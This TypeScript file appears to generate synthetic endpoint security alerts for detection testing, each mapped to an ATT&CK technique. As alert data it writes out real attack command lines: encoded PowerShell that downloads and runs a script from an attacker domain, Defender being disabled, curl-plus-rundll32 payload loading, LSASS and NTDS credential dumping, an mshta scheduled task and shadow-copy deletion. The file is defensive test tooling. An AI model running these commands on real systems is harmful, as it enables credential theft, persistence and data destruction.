import { COMPANY, server } from '../organisation.ts';
import { type Detection, SENSORS, technique } from './scenario.ts';
import { externalFields, fileFields, hostFields, onWorkstation, processFields, userFields } from './scene-fields.ts';

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const EXPLORER = { path: 'C:\\Windows\\explorer.exe', commandLine: 'C:\\Windows\\Explorer.EXE', pid: 4820 };

/** Programs on laptops and servers. */
export const ENDPOINT_SCENARIOS: readonly Detection[] = [
  {
    analytic: 'Suspicious PowerShell',
    detection: 'Encoded Command',
    weight: 10,
    technique: technique('T1059.001', 'Command and Scripting Interpreter: PowerShell', 'execution'),
    category: ['process'],
    type: ['start'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation, attacker }) => {
      const script = `IEX (New-Object Net.WebClient).DownloadString('https://${attacker.domain}/${random.hex(6)}.ps1')`;
      const commandLine = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
      return {
        message: `PowerShell with an encoded command that downloads from ${attacker.domain} on ${workstation.name}`,
        outline: {
          threat: attacker.domain,
          target: workstation.name,
          indicators: [attacker.domain, attacker.ip],
          summary: 'Encoded PowerShell downloads and runs a script',
        },
        score: random.decimal(66, 90),
        severity: 7,
        action: 'process-created',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({ path: POWERSHELL, commandLine, pid: random.integer(3000, 19000), parent: EXPLORER }),
          url: { full: `https://${attacker.domain}/`, domain: attacker.domain, scheme: 'https' },
          related: {
            hosts: [workstation.name, attacker.domain],
            user: [workstation.owner.username],
            ip: [workstation.ip],
          },
        },
        raw: {
          EventID: 1,
          Image: POWERSHELL,
          CommandLine: commandLine,
          ParentImage: EXPLORER.path,
          User: `${COMPANY.windowsDomain}\\${workstation.owner.username}`,
        },
      };
    },
  },
  {
    analytic: 'Suspicious PowerShell',
    detection: 'Antimalware Bypass',
    weight: 4,
    technique: technique('T1562.001', 'Impair Defenses: Disable or Modify Tools', 'defenseEvasion'),
    category: ['process', 'malware'],
    type: ['start', 'info'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation }) => {
      const commandLine =
        'powershell.exe -Command "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData"';
      return {
        message: `Real-time protection switched off by PowerShell on ${workstation.name}`,
        outline: {
          threat: 'powershell.exe',
          target: workstation.name,
          indicators: ['Set-MpPreference', 'C:\\ProgramData'],
          summary: 'Antimalware disabled, folder excluded',
        },
        score: random.decimal(60, 84),
        severity: 7,
        action: 'process-created',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({
            path: POWERSHELL,
            commandLine,
            pid: random.integer(3000, 19000),
            parent: { path: CMD, commandLine: 'cmd.exe /c setup.bat', pid: random.integer(900, 2900) },
          }),
          related: { hosts: [workstation.name], user: [workstation.owner.username] },
        },
        raw: {
          EventID: 4688,
          NewProcessName: POWERSHELL,
          CommandLine: commandLine,
          SubjectUserName: workstation.owner.username,
        },
      };
    },
  },
  {
    analytic: 'Macro Watch',
    detection: 'Office Spawned Shell',
    weight: 7,
    technique: technique('T1204.002', 'User Execution: Malicious File', 'execution'),
    category: ['process', 'file'],
    type: ['start'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation, attacker }) => {
      const { owner } = workstation;
      const document = random.pick([
        'Invoice_88213.docm',
        'Benefits_2026_update.xlsm',
        'RFP_broker_terms.docm',
        'Payment_advice.xls',
      ]);
      const path = `C:\\Users\\${owner.username}\\Downloads\\${document}`;
      const office = document.endsWith('docm') ? 'WINWORD.EXE' : 'EXCEL.EXE';
      const commandLine = `cmd.exe /c curl -s -o %TEMP%\\sync.dll https://${attacker.domain}/s && rundll32 %TEMP%\\sync.dll,Start`;
      return {
        message: `${office} opened ${document} and started cmd.exe on ${workstation.name}`,
        outline: {
          threat: document,
          target: workstation.name,
          indicators: [document, attacker.domain, attacker.ip],
          summary: 'Macro starts a shell that loads a library',
        },
        score: random.decimal(74, 95),
        severity: 8,
        action: 'process-created',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({
            path: CMD,
            commandLine,
            pid: random.integer(3000, 19000),
            parent: {
              path: `C:\\Program Files\\Microsoft Office\\root\\Office16\\${office}`,
              commandLine: `"${office}" "${path}"`,
              pid: random.integer(2000, 12000),
            },
          }),
          file: fileFields(path, random.integer(48_000, 410_000)),
          related: { hosts: [workstation.name, attacker.domain], user: [owner.username], ip: [attacker.ip] },
        },
        raw: { EventID: 1, Image: CMD, CommandLine: commandLine, ParentImage: office, OriginalFile: path },
      };
    },
  },
  {
    analytic: 'Credential Dumping',
    detection: 'Process Memory Access',
    weight: 4,
    technique: technique('T1003.001', 'OS Credential Dumping: LSASS Memory', 'credentialAccess'),
    category: ['process'],
    type: ['access'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation }) => {
      const dump = `C:\\Windows\\Temp\\${random.hex(8)}.dmp`;
      const commandLine = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 ${dump} full`;
      return {
        message: `Memory of lsass.exe written to ${dump} on ${workstation.name}`,
        outline: {
          threat: 'comsvcs.dll MiniDump',
          target: workstation.name,
          indicators: [dump, 'lsass.exe'],
          summary: 'Memory of the logon process dumped',
        },
        score: random.decimal(86, 98),
        severity: 9,
        action: 'process-accessed',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({
            path: 'C:\\Windows\\System32\\rundll32.exe',
            commandLine,
            pid: random.integer(3000, 19000),
            parent: { path: CMD, commandLine: 'cmd.exe', pid: random.integer(900, 2900) },
          }),
          file: fileFields(dump, random.integer(42_000_000, 71_000_000)),
          related: { hosts: [workstation.name], user: [workstation.owner.username] },
        },
        raw: {
          EventID: 10,
          SourceImage: 'C:\\Windows\\System32\\rundll32.exe',
          TargetImage: 'C:\\Windows\\System32\\lsass.exe',
          GrantedAccess: '0x1FFFFF',
        },
      };
    },
  },
  {
    analytic: 'Credential Dumping',
    detection: 'Directory Database Copy',
    weight: 2,
    technique: technique('T1003.003', 'OS Credential Dumping: NTDS', 'credentialAccess'),
    category: ['process', 'file'],
    type: ['creation'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation: { owner } }) => {
      const host = server(random.pick(['MCM-DC01', 'MCM-DC02']));
      const commandLine = 'ntdsutil "ac i ntds" "ifm" "create full C:\\PerfLogs\\backup" q q';
      return {
        message: `Copy of the directory database made on ${host.name} by ${owner.username}`,
        outline: {
          threat: owner.username,
          target: host.name,
          indicators: ['ntds.dit', 'C:\\PerfLogs\\backup'],
          summary: 'All domain password hashes in one folder',
        },
        score: random.decimal(90, 99),
        severity: 10,
        action: 'process-created',
        outcome: 'success',
        fields: {
          host: hostFields(host),
          user: userFields(owner),
          process: processFields({
            path: 'C:\\Windows\\System32\\ntdsutil.exe',
            commandLine,
            pid: random.integer(3000, 9000),
            parent: { path: CMD, commandLine: 'cmd.exe', pid: random.integer(900, 2900) },
          }),
          file: fileFields('C:\\PerfLogs\\backup\\Active Directory\\ntds.dit', 486_539_264),
          related: { hosts: [host.name], user: [owner.username], ip: [host.ip] },
        },
        raw: {
          EventID: 4688,
          NewProcessName: 'C:\\Windows\\System32\\ntdsutil.exe',
          CommandLine: commandLine,
          Computer: host.name,
        },
      };
    },
  },
  {
    analytic: 'Lateral Movement Watch',
    detection: 'Remote Service',
    weight: 5,
    technique: technique('T1569.002', 'System Services: Service Execution', 'lateralMovement'),
    category: ['network', 'process'],
    type: ['start', 'connection'],
    sensor: SENSORS.windows,
    build: ({ random, workstation }) => {
      const target = server(random.pick(['MCM-FS02', 'MCM-SQL01', 'MCM-JUMP01', 'MCM-EXCH01']));
      return {
        message: `Service PSEXESVC installed on ${target.name} from ${workstation.name}`,
        outline: {
          threat: workstation.name,
          target: target.name,
          indicators: ['PSEXESVC', workstation.ip, target.ip],
          summary: 'Remote execution from a laptop',
        },
        score: random.decimal(58, 83),
        severity: 7,
        action: 'service-installed',
        outcome: 'success',
        fields: {
          host: hostFields(target),
          user: userFields(workstation.owner),
          source: { ip: workstation.ip, port: random.integer(49_200, 65_000) },
          destination: { ip: target.ip, port: 445 },
          network: { direction: 'internal', protocol: 'smb', transport: 'tcp' },
          process: processFields({
            path: 'C:\\Windows\\PSEXESVC.exe',
            commandLine: 'C:\\Windows\\PSEXESVC.exe',
            pid: random.integer(3000, 9000),
            parent: { path: 'C:\\Windows\\System32\\services.exe', commandLine: 'services.exe', pid: 688 },
          }),
          related: {
            hosts: [target.name, workstation.name],
            user: [workstation.owner.username],
            ip: [workstation.ip, target.ip],
          },
        },
        raw: { EventID: 7045, ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', Computer: target.name },
      };
    },
  },
  {
    analytic: 'Lateral Movement Watch',
    detection: 'Desktop Session From Server',
    weight: 4,
    technique: technique('T1021.001', 'Remote Services: Remote Desktop Protocol', 'lateralMovement'),
    category: ['authentication', 'session'],
    type: ['start'],
    sensor: SENSORS.windows,
    build: ({ random, workstation: { owner } }) => {
      const from = server(random.pick(['MCM-SQL01', 'MCM-EXCH01', 'MCM-FS02']));
      const to = server(random.pick(['MCM-DC01', 'MCM-DC02']));
      return {
        message: `Remote desktop from ${from.name} to ${to.name} as ${owner.username}, not by the jump host`,
        outline: {
          threat: from.name,
          target: to.name,
          indicators: [from.ip, to.ip, owner.username],
          summary: 'Domain controller reached around the jump host',
        },
        score: random.decimal(52, 78),
        severity: 6,
        action: 'logged-in',
        outcome: 'success',
        fields: {
          host: hostFields(to),
          user: userFields(owner),
          source: { ip: from.ip, port: random.integer(49_200, 65_000) },
          destination: { ip: to.ip, port: 3389 },
          network: { direction: 'internal', protocol: 'rdp', transport: 'tcp' },
          related: { hosts: [from.name, to.name], user: [owner.username], ip: [from.ip, to.ip] },
        },
        raw: { EventID: 4624, LogonType: 10, TargetUserName: owner.username, IpAddress: from.ip, Computer: to.name },
      };
    },
  },
  {
    analytic: 'Persistence Monitor',
    detection: 'Run Key',
    weight: 6,
    technique: technique(
      'T1547.001',
      'Boot or Logon Autostart Execution: Registry Run Keys / Startup Folder',
      'persistence',
    ),
    category: ['registry'],
    type: ['change'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation }) => {
      const value = random.pick(['OneDriveSyncHelper', 'TeamsUpdateAgent', 'GraphicsTray']);
      const program = `C:\\Users\\${workstation.owner.username}\\AppData\\Roaming\\${value}\\${value.toLowerCase()}.exe`;
      const key = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run';
      return {
        message: `Unsigned ${value.toLowerCase()}.exe starts at every logon of ${workstation.owner.username}`,
        outline: {
          threat: program,
          target: workstation.name,
          indicators: [program, `HKCU\\${key}\\${value}`],
          summary: 'Autostart entry for an unsigned program',
        },
        score: random.decimal(36, 64),
        severity: 5,
        action: 'registry-value-set',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          registry: {
            hive: 'HKCU',
            key,
            value,
            path: `HKCU\\${key}\\${value}`,
            data: { strings: [program], type: 'REG_SZ' },
          },
          file: fileFields(program, random.integer(180_000, 2_400_000)),
          related: { hosts: [workstation.name], user: [workstation.owner.username] },
        },
        raw: { EventID: 13, TargetObject: `HKU\\S-1-5-21\\${key}\\${value}`, Details: program },
      };
    },
  },
  {
    analytic: 'Persistence Monitor',
    detection: 'Scheduled Task',
    weight: 5,
    technique: technique('T1053.005', 'Scheduled Task/Job: Scheduled Task', 'persistence'),
    category: ['process', 'configuration'],
    type: ['creation'],
    sensor: SENSORS.windows,
    build: ({ random, workstation }) => {
      const task = random.pick(['GoogleUpdateTaskMachineQC', 'WindowsTelemetrySync', 'AdobeFlashRepair']);
      const commandLine = `schtasks /create /tn "${task}" /tr "mshta.exe http://${random.pick(['203.0.113.42', '203.0.113.17'])}/t.hta" /sc minute /mo 30 /ru SYSTEM`;
      return {
        message: `Scheduled task ${task} runs mshta.exe every 30 minutes on ${workstation.name}`,
        outline: {
          threat: task,
          target: workstation.name,
          indicators: [task, 'mshta.exe'],
          summary: 'Task fetches and runs a script as SYSTEM',
        },
        score: random.decimal(55, 80),
        severity: 7,
        action: 'scheduled-task-created',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({
            path: 'C:\\Windows\\System32\\schtasks.exe',
            commandLine,
            pid: random.integer(3000, 19000),
            parent: { path: CMD, commandLine: 'cmd.exe', pid: random.integer(900, 2900) },
          }),
          related: { hosts: [workstation.name], user: [workstation.owner.username] },
        },
        raw: { EventID: 4698, TaskName: `\\${task}`, SubjectUserName: workstation.owner.username },
      };
    },
  },
  {
    analytic: 'Ransomware Tripwire',
    detection: 'Shadow Copies Deleted',
    weight: 2,
    technique: technique('T1490', 'Inhibit System Recovery', 'impact'),
    category: ['process'],
    type: ['deletion'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation }) => {
      const commandLine = 'vssadmin.exe delete shadows /all /quiet';
      return {
        message: `All shadow copies deleted on ${workstation.name}`,
        outline: {
          threat: 'vssadmin.exe',
          target: workstation.name,
          indicators: [commandLine],
          summary: 'Backups removed, as ransomware does first',
        },
        score: random.decimal(88, 99),
        severity: 10,
        action: 'process-created',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          process: processFields({
            path: 'C:\\Windows\\System32\\vssadmin.exe',
            commandLine,
            pid: random.integer(3000, 19000),
            parent: {
              path: POWERSHELL,
              commandLine: 'powershell.exe -ep bypass -file C:\\Users\\Public\\u.ps1',
              pid: random.integer(900, 2900),
            },
          }),
          related: { hosts: [workstation.name], user: [workstation.owner.username] },
        },
        raw: { EventID: 1, Image: 'C:\\Windows\\System32\\vssadmin.exe', CommandLine: commandLine },
      };
    },
  },
  {
    analytic: 'Bad Guy Finder',
    detection: 'Known Malicious File',
    weight: 6,
    technique: technique('T1204.002', 'User Execution: Malicious File', 'execution'),
    category: ['malware', 'file'],
    type: ['info', 'creation'],
    sensor: SENSORS.endpoint,
    build: ({ random, workstation, attacker }) => {
      const family = random.pick(['Lumma Stealer', 'AsyncRAT', 'Remcos', 'FormBook']);
      const name = random.pick(['setup_pdf_reader.exe', 'Statement_Oct.iso', 'teams-codec.msi', 'quote_4471.js']);
      const path = `C:\\Users\\${workstation.owner.username}\\Downloads\\${name}`;
      const file = fileFields(path, random.integer(90_000, 6_400_000));
      return {
        message: `${name} on ${workstation.name} is known as ${family}, quarantined`,
        outline: {
          threat: family,
          target: workstation.name,
          indicators: [name, attacker.domain],
          summary: `${family} downloaded and quarantined`,
        },
        score: random.decimal(42, 76),
        severity: 6,
        action: 'file-quarantined',
        outcome: 'success',
        fields: {
          ...onWorkstation(workstation),
          file,
          source: externalFields(attacker, 443),
          assemblyline: { antivirus: [{ type: 'AV', value: family, verdict: 'malicious' }] },
          threat: { software: { name: family, type: 'Malware' } },
          related: {
            hosts: [workstation.name, attacker.domain],
            user: [workstation.owner.username],
            ip: [attacker.ip],
          },
        },
        raw: { event: 'quarantine', path, detection: family, url: `https://${attacker.domain}/dl/${name}` },
      };
    },
  },
];
